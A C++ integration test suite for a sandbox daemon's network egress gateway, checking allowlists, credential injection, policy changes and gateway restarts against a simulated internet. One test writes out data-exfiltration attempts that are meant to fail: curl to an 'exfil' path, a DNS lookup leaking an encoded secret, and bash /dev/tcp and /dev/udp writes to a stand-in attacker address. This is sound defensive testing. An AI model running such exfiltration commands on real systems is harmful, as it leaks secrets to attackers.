// Egress through the public API: a real vesseld runs vessel-gateway and gives
// its sandboxes network slots; its upstream is the fake internet of
// EgressWorld (namespaces of this test, nothing leaves the machine). Guests
// are the debian template (curl, python3) restored from a snapshot; commands
// run through vesseld's --debug-exec endpoint. One vesseld and one template
// build for the binary; three sandboxes in all.
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/write.hpp>
#include <boost/json.hpp>
#include <filesystem>
#include <fstream>
#include <thread>

#include "base/child_process.h"
#include "base/sha256.h"
#include "os/command.h"
#include "tests/integration/egress/world.h"
#include "tests/integration/guest_env.h"

namespace vessel::egress_test {
namespace {

namespace asio = boost::asio;
namespace fs = std::filesystem;
namespace json = boost::json;
using namespace std::chrono_literals;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr const char* kSecret = "s3cr3t-api-token-6b1f";

struct Reply {
  int status = 0;
  std::string body;
  json::value js() const {
    boost::system::error_code ec;
    auto v = json::parse(body, ec);
    return ec ? json::value() : v;
  }
};

struct Shared {
  std::unique_ptr<EgressWorld> world;
  testing::ScratchDir dir;
  ChildProcess vesseld;
  uint16_t port = 0;
  std::string key, state, prefix;
  std::string allow_sb;  // debian, allowlist + credential
};
Shared* g = nullptr;

Reply call(const std::string& method, const std::string& target, const std::string& body = "") {
  asio::io_context io;
  asio::ip::tcp::socket s(io);
  boost::system::error_code ec;
  s.connect({asio::ip::make_address("127.0.0.1"), g->port}, ec);
  if (ec) return {};
  timeval tv{120, 0};
  ::setsockopt(s.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  std::string req = method + " " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n";
  if (!g->key.empty()) req += "Authorization: Bearer " + g->key + "\r\n";
  req += "Content-Type: application/json\r\nContent-Length: " + std::to_string(body.size()) +
         "\r\n\r\n" + body;
  asio::write(s, asio::buffer(req), ec);
  std::string all;
  char buf[8192];
  for (;;) {
    ssize_t n = ::read(s.native_handle(), buf, sizeof buf);
    if (n <= 0) break;
    all.append(buf, static_cast<size_t>(n));
  }
  Reply r;
  auto hdr = all.find("\r\n\r\n");
  if (all.size() < 12 || hdr == std::string::npos) return r;
  r.status = std::stoi(all.substr(9, 3));
  r.body = all.substr(hdr + 4);
  return r;
}

std::string str(const json::value& v, const char* k) {
  if (!v.is_object() || !v.as_object().contains(k) || !v.at(k).is_string()) return "<missing>";
  return std::string(v.at(k).as_string());
}

// Polls the operation (bounded) until it ends; returns its state.
std::string finish(const std::string& op) {
  for (int i = 0; i < 1200; ++i) {
    std::string st = str(call("GET", "/v1/operations/" + op).js(), "state");
    if (st == "done" || st == "failed") return st;
    std::this_thread::sleep_for(100ms);
  }
  return "<timeout>";
}

// Creates a sandbox and waits for it; "" on failure (with the reason added).
std::string createSandbox(const std::string& body) {
  Reply r = call("POST", "/v1/sandboxes", body);
  EXPECT_EQ(r.status, 202) << r.body;
  auto v = r.js();
  if (r.status != 202) return "";
  std::string id = str(v.at("sandbox"), "id"), op = str(v.at("operation"), "id");
  std::string st = finish(op);
  EXPECT_EQ(st, "done") << call("GET", "/v1/operations/" + op).body;
  return st == "done" ? id : "";
}

bool deleteSandbox(const std::string& id) {
  Reply r = call("DELETE", "/v1/sandboxes/" + id);
  if (r.status != 202) return false;
  return finish(str(r.js().at("operation"), "id")) == "done";
}

// Runs a shell command in the guest as root; stdout + stderr.
std::string sh(const std::string& id, const std::string& cmd) {
  json::object o{{"cmd", cmd}, {"user", "root"}};
  Reply r = call("POST", "/debug/sandboxes/" + id + "/exec", json::serialize(o));
  if (r.status != 200) return "EXEC FAILED " + std::to_string(r.status) + " " + r.body;
  auto v = r.js();
  return str(v, "stdout") + str(v, "stderr");
}

// This vesseld's slot namespaces ("<prefix>-<i>"), from `ip netns list`.
std::vector<std::string> slotNamespaces() {
  std::vector<std::string> out;
  std::error_code ec;
  for (auto& e : fs::directory_iterator("/run/netns", ec)) {
    std::string n = e.path().filename().string();
    if (n.rfind(g->prefix + "-", 0) == 0) out.push_back(n);
  }
  return out;
}

std::string gatewayTables() {
  auto r = os::runCommand(os::inNetns(g->world->gwNetns(), {"nft", "list", "tables"}));
  return r.ok() ? r->out : "nft failed: " + r.error().message();
}

class EgressApiTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    g = new Shared;
    auto w = EgressWorld::create({}, /*start_gateway=*/false);
    ASSERT_TRUE(w.ok()) << w.error().message();
    g->world = std::move(*w);
    g->state = g->dir.path() + "/state";
    g->prefix = "v" + sha256Hex(g->state).substr(0, 4);
    std::string cache = g->dir.path() + "/cache";
    // The debian template (curl, python3, CA store) in this test's store;
    // vesseld builds `minimal` there itself.
    const char* debian = ::getenv("VESSEL_DEBIAN_IMAGE");
    ASSERT_TRUE(debian && *debian) << "VESSEL_DEBIAN_IMAGE is not set; run through `make test`";
    auto b = os::runCommand(
        {VESSEL_CLI_PATH, "template", "build", "--local", "-f",
         VESSEL_SOURCE_DIR "/guest/templates/debian/template.json", "--store", cache + "/templates",
         "--kernel", testing::kernelPath(), "--minimal-image", testing::minimalImage()},
        {}, 600s);
    ASSERT_TRUE(b.ok()) << b.error().message();
    {
      asio::io_context io;
      asio::ip::tcp::acceptor a(io, {asio::ip::make_address("127.0.0.1"), 0});
      g->port = a.local_endpoint().port();
    }
    auto log = Fd::open(g->dir.path() + "/vesseld.log", O_WRONLY | O_CREAT | O_APPEND, 0600);
    ASSERT_TRUE(log.ok());
    SpawnOptions so;
    so.argv = {VESSELD_PATH,
               "--state-dir",
               g->state,
               "--cache-dir",
               cache,
               "--listen",
               "127.0.0.1:" + std::to_string(g->port),
               "--data-listen",
               "127.0.0.1:" + std::to_string(testing::freePort()),
               "--accel",
               "tcg",
               "--kernel",
               testing::kernelPath(),
               "--minimal-image",
               testing::minimalImage(),
               "--debug-exec",
               "--egress-gateway-netns",
               g->world->gwNetns(),
               "--egress-upstream-netns",
               g->world->upNetns(),
               "--egress-resolver",
               kResolver,
               "--egress-ca-bundle",
               g->world->testCa()};
    so.fds = {{log->get(), 1}, {log->get(), 2}};
    so.die_with_parent = true;
    auto p = ChildProcess::spawn(so);
    ASSERT_TRUE(p.ok()) << p.error().message();
    g->vesseld = std::move(*p);
    bool up = false;
    for (int i = 0; i < 3000 && !up; ++i) {
      up = call("GET", "/healthz").status == 200;
      if (!up && g->vesseld.tryWait()) break;
      if (!up) std::this_thread::sleep_for(100ms);
    }
    ASSERT_TRUE(up) << "vesseld did not come up:\n" << vesseldLog();
    std::ifstream kf(g->state + "/dev-api-key");
    std::getline(kf, g->key);
    ASSERT_FALSE(g->key.empty());

    json::object cred{{"name", "a-api"},
                      {"hosts", json::array{"api.a.test"}},
                      {"header", "Authorization"},
                      {"value", std::string("Bearer ") + kSecret}};
    Reply c = call("POST", "/v1/credentials", json::serialize(cred));
    ASSERT_EQ(c.status, 201) << c.body;
    g->allow_sb = createSandbox(
        R"({"template": "debian", "network": {"mode": "allowlist",
            "allow": ["a.test", "api.a.test", "hold.test:7000"]}, "credentials": ["a-api"]})");
    ASSERT_FALSE(g->allow_sb.empty()) << vesseldLog();
    // The guest trusts the fake internet's CA for the real certificates
    // (its own trust store already holds the deployment CA).
    auto ca = readFile(g->world->testCa());
    ASSERT_TRUE(ca.ok());
    std::string o = sh(g->allow_sb, "cat > /tmp/test-ca.crt <<'EOF'\n" + *ca + "EOF\necho ok");
    ASSERT_THAT(o, HasSubstr("ok"));
  }
  static void TearDownTestSuite() {
    if (!g) return;
    if (g->vesseld.running()) {
      auto e = g->vesseld.terminate(40s);
      EXPECT_TRUE(e.exited && e.code == 0) << e.describe() << "\n" << vesseldLog();
    }
    // Nothing of vesseld's egress is left: no slot namespace, no table.
    EXPECT_THAT(slotNamespaces(), ::testing::IsEmpty());
    EXPECT_THAT(gatewayTables(), Not(HasSubstr("vessel_gw_" + g->prefix)));
    EXPECT_THAT(testing::qemuProcessesUsing(g->dir.path()), ::testing::IsEmpty());
    delete g;
    g = nullptr;
  }
  static std::string vesseldLog() {
    auto l = readFile(g->dir.path() + "/vesseld.log", 8 << 20);
    return l.ok() ? *l : "";
  }
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root";
    ASSERT_TRUE(g && !g->allow_sb.empty()) << "set-up failed";
    g->world->clearLogs();
  }
  const std::string& sb() { return g->allow_sb; }
  std::string curl(const std::string& args) {
    return sh(sb(), "curl -sS -m 8 --cacert /tmp/test-ca.crt " + args + " 2>&1; echo rc=$?");
  }
};

TEST_F(EgressApiTest, AllowedHttpsVerifiesTheRealCertificate) {
  std::string o = curl("https://a.test/");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  EXPECT_THAT(o, HasSubstr("rc=0"));
  // The guest resolves through the gateway's DNS (resolv.conf from identity).
  o = sh(sb(), "python3 -c \"import socket; print(socket.gethostbyname('a.test'))\"");
  EXPECT_THAT(o, HasSubstr("198.51.100.10")) << o;
  EXPECT_EQ(g->world->attackerLog(), "");
}

TEST_F(EgressApiTest, ForbiddenNamesFailAndTheAttackerSeesNothing) {
  std::string o = curl("https://x.test/exfil");
  o += curl("http://x.test/exfil");
  o += curl("--resolve x.test:443:203.0.113.66 https://x.test/");
  o += sh(sb(), "python3 -c \"import socket; socket.gethostbyname('c2VjcmV0.x.test')\" 2>&1");
  // Raw TCP and UDP straight to X's address (debian has no nc: bash's
  // /dev/tcp). The gateway accepts the TCP connection and refuses what is
  // sent on it, so only the attacker's log tells.
  o += sh(sb(),
          "timeout 5 bash -c 'echo exfil > /dev/tcp/203.0.113.66/22' 2>&1; "
          "timeout 5 bash -c 'echo exfil > /dev/udp/203.0.113.66/53; "
          "echo exfil > /dev/udp/203.0.113.66/123' 2>&1");
  EXPECT_THAT(o, Not(HasSubstr("rc=0"))) << o;
  EXPECT_EQ(g->world->attackerLog(), "") << o;
}

TEST_F(EgressApiTest, CredentialReachesTheApiButNeverTheGuest) {
  // No --cacert: the terminated leaf is verified against the deployment CA
  // that identity put in the guest's trust store (CURL_CA_BUNDLE).
  std::string o = sh(sb(),
                     "curl -sS -m 8 -H 'Authorization: Bearer guest-placeholder' "
                     "https://api.a.test/echo 2>&1; echo rc=$?");
  EXPECT_THAT(o, HasSubstr("rc=0")) << o;
  EXPECT_THAT(o, Not(HasSubstr(kSecret))) << o;
  std::string api = g->world->apiLog();
  EXPECT_THAT(api, HasSubstr(std::string("Bearer ") + kSecret)) << api;
  EXPECT_THAT(api, Not(HasSubstr("guest-placeholder"))) << api;
  // The guest's view: environment, files, processes.
  std::string view =
      sh(sb(),
         "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
         "grep -rl '" +
             std::string(kSecret) + "' /etc /tmp /root /home /var /run 2>/dev/null; echo done");
  EXPECT_THAT(view, HasSubstr("SSL_CERT_FILE=/etc/vessel/ca-bundle.crt"));
  EXPECT_THAT(view, Not(HasSubstr(kSecret)));
  // And the API lists the credential without its value.
  Reply l = call("GET", "/v1/credentials");
  EXPECT_EQ(l.status, 200);
  EXPECT_THAT(l.body, HasSubstr("\"a-api\""));
  EXPECT_THAT(l.body, Not(HasSubstr(kSecret)));
  EXPECT_EQ(g->world->attackerLog(), "");
}

TEST_F(EgressApiTest, LiveNetworkChangeResetsAnOpenConnection) {
  // A keep-alive connection to hold.test, then a policy without it.
  std::string script =
      "import socket,time\n"
      "s=socket.create_connection(('hold.test',7000),timeout=15)\n"
      "s.sendall(b'GET / HTTP/1.1\\r\\nHost: hold.test:7000\\r\\n\\r\\n')\n"
      "open('/tmp/live.flag','w').write('open')\n"
      "try:\n"
      "  while s.recv(4096):\n"
      "    pass\n"
      "  print('closed', flush=True)\n"
      "except ConnectionResetError:\n"
      "  print('reset', flush=True)\n"
      "except socket.timeout:\n"
      "  print('still-open', flush=True)\n";
  std::string out;
  std::thread client(
      [&] { out = sh(sb(), "rm -f /tmp/live.flag; python3 - <<'EOF'\n" + script + "EOF"); });
  bool open = false;
  for (int i = 0; i < 100 && !open; ++i) {
    open = sh(sb(), "cat /tmp/live.flag 2>/dev/null") == "open";
    if (!open) std::this_thread::sleep_for(200ms);
  }
  Reply r = call("PUT", "/v1/sandboxes/" + sb() + "/network",
                 R"({"mode": "allowlist", "allow": ["a.test", "api.a.test"],
                     "credentials": ["a-api"]})");
  client.join();
  ASSERT_TRUE(open) << out;
  EXPECT_EQ(r.status, 200) << r.body;
  EXPECT_THAT(out, ::testing::AnyOf(HasSubstr("reset"), HasSubstr("closed"))) << out;
  EXPECT_EQ(str(call("GET", "/v1/sandboxes/" + sb() + "/network").js(), "mode"), "allowlist");
  // New connections follow the new policy too.
  std::string again =
      sh(sb(), "timeout 5 bash -c 'echo x > /dev/tcp/hold.test/7000' 2>&1; echo rc=$?");
  EXPECT_THAT(again, Not(HasSubstr("rc=0"))) << again;
  EXPECT_THAT(curl("https://a.test/"), HasSubstr("hello from a.test"));
  r = call("PUT", "/v1/sandboxes/" + sb() + "/network",
           R"({"mode": "allowlist", "allow": ["a.test", "api.a.test", "hold.test:7000"],
               "credentials": ["a-api"]})");
  EXPECT_EQ(r.status, 200) << r.body;
}

TEST_F(EgressApiTest, NetworkNoneHasNoEgress) {
  std::string id = createSandbox(R"({"template": "debian", "network": {"mode": "none"}})");
  ASSERT_FALSE(id.empty());
  std::string o = sh(id, "ip route");
  EXPECT_THAT(o, Not(HasSubstr("default via"))) << o;
  o = sh(id, "ip -o link show eth0");
  EXPECT_THAT(o, HasSubstr("state DOWN")) << o;
  // Even with a route set up by hand, the gateway's policy is none.
  o = sh(id,
         "ip link set eth0 up; ip addr add 172.16.0.2/30 dev eth0; "
         "ip route add default via 172.16.0.1; "
         "curl -sS -m 5 --resolve a.test:80:198.51.100.10 http://a.test/ 2>&1; echo rc=$?; "
         "curl -sS -m 5 http://203.0.113.66/none 2>&1; echo rc=$?");
  EXPECT_THAT(o, Not(HasSubstr("rc=0"))) << o;
  EXPECT_THAT(o, Not(HasSubstr("hello from"))) << o;
  EXPECT_EQ(g->world->attackerLog(), "") << o;
  EXPECT_TRUE(deleteSandbox(id));
}

TEST_F(EgressApiTest, BadNetworkRequestsAreRefused) {
  for (const char* body : {R"({"network": {"mode": "open"}})",
                           R"({"network": {"mode": "allowlist", "allow": ["10.0.0.1"]}})",
                           R"({"network": {"mode": "full", "allow": ["a.test"]}})",
                           R"({"network": {"mode": "allowlist", "allow": ["a.test"], "x": 1}})",
                           R"({"credentials": ["does-not-exist"]})"}) {
    Reply r = call("POST", "/v1/sandboxes", body);
    EXPECT_TRUE(r.status == 400 || r.status == 404) << body << " -> " << r.status << r.body;
  }
  for (const char* body :
       {R"({"name": "x", "hosts": ["a.test"], "header": "Host", "value": "v"})",
        R"({"name": "x", "hosts": ["127.0.0.1"], "header": "Authorization", "value": "v"})",
        R"({"name": "x", "hosts": ["a.test"], "header": "Authorization", "value": "a\r\nb"})",
        R"({"name": "x", "hosts": [], "header": "Authorization", "value": "v"})"}) {
    Reply r = call("POST", "/v1/credentials", body);
    EXPECT_EQ(r.status, 400) << body << " -> " << r.body;
  }
}

TEST_F(EgressApiTest, GatewayIsSupervisedAndCounted) {
  auto h = call("GET", "/healthz").js();
  ASSERT_TRUE(h.is_object() && h.as_object().contains("gateway")) << json::serialize(h);
  int64_t pid = h.at("gateway").at("pid").to_number<int64_t>();
  ASSERT_GT(pid, 0);
  ASSERT_EQ(::kill(static_cast<pid_t>(pid), SIGKILL), 0);
  bool back = false;
  for (int i = 0; i < 200 && !back; ++i) {
    std::this_thread::sleep_for(100ms);
    auto v = call("GET", "/healthz").js();
    back = v.is_object() && v.at("gateway").at("restarts").to_number<int64_t>() >= 1 &&
           v.at("gateway").at("running").as_bool();
  }
  ASSERT_TRUE(back) << vesseldLog();
  // The restarted gateway got the sandbox's policy back.
  std::string o = curl("https://a.test/");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  o = curl("https://x.test/");
  EXPECT_EQ(g->world->attackerLog(), "") << o;
  Reply m = call("GET", "/metrics");
  EXPECT_EQ(m.status, 200);
  EXPECT_THAT(m.body, HasSubstr("vessel_gateway_events_total{kind=\"tcp\",verdict=\"allow\""));
  EXPECT_THAT(m.body, HasSubstr("vessel_gateway_up 1"));
}

// Slots handed to sandboxes (from /healthz), once every slot namespace on
// the host is accounted for (ready + attached): no slot exists unowned.
int64_t attachedSlots() {
  for (int i = 0; i < 50; ++i) {
    auto v = call("GET", "/healthz").js();
    if (!v.is_object()) break;
    const auto& gw = v.at("gateway");
    int64_t attached = gw.at("slots_attached").to_number<int64_t>();
    int64_t ready = gw.at("slots_ready").to_number<int64_t>();
    if (static_cast<int64_t>(slotNamespaces().size()) == attached + ready) return attached;
    std::this_thread::sleep_for(100ms);  // a refill between the two reads
  }
  ADD_FAILURE() << "slot namespaces and the pool's accounting disagree";
  return -1;
}

TEST_F(EgressApiTest, SlotsAreReleasedOnPauseAndDelete) {
  int64_t before = attachedSlots();
  std::string id = createSandbox(R"({"template": "minimal", "network": {"mode": "full"}})");
  ASSERT_FALSE(id.empty());
  EXPECT_EQ(attachedSlots(), before + 1);
  Reply r = call("POST", "/v1/sandboxes/" + id + ":pause");
  ASSERT_EQ(r.status, 202) << r.body;
  ASSERT_EQ(finish(str(r.js().at("operation"), "id")), "done");
  EXPECT_EQ(attachedSlots(), before);
  r = call("POST", "/v1/sandboxes/" + id + ":resume");
  ASSERT_EQ(r.status, 202) << r.body;
  ASSERT_EQ(finish(str(r.js().at("operation"), "id")), "done");
  EXPECT_EQ(attachedSlots(), before + 1);
  // Resumed on a fresh slot, registered again, its guest configured.
  std::string o = sh(id, "wget -q -O - http://a.test/ 2>&1; echo rc=$?");
  EXPECT_THAT(o, HasSubstr("hello from a.test")) << o;
  EXPECT_TRUE(deleteSandbox(id));
  EXPECT_EQ(attachedSlots(), before);
}

}  // namespace
}  // namespace vessel::egress_test
